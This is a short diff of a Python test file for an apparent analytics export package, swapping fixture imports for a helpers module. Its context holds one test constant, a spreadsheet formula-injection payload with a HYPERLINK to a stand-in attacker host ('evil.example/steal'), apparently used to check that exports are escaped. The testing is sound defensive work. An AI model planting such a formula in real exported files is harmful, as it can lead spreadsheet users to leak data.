@@ -24,12 +24,7 @@ from partnerlens.insights.analytics.text import SUPPRESSED
 from partnerlens.insights.exporters import ExportContext, exporters, get_exporter
 from partnerlens.insights.exporters.tabular import escape
 from partnerlens.insights.models import InsightSettings
-from partnerlens.insights.tests import dashboard_fixtures
-from partnerlens.insights.tests.dashboard_fixtures import fill_cycle, make_results_framework
-
-# Fixtures shared with the other insights tests.
-results_schools = dashboard_fixtures.results_schools
-
+from partnerlens.insights.tests.helpers import fill_cycle, make_results_framework
 
 INJECTION = '=HYPERLINK("http://evil.example/steal","Click for details")'
 
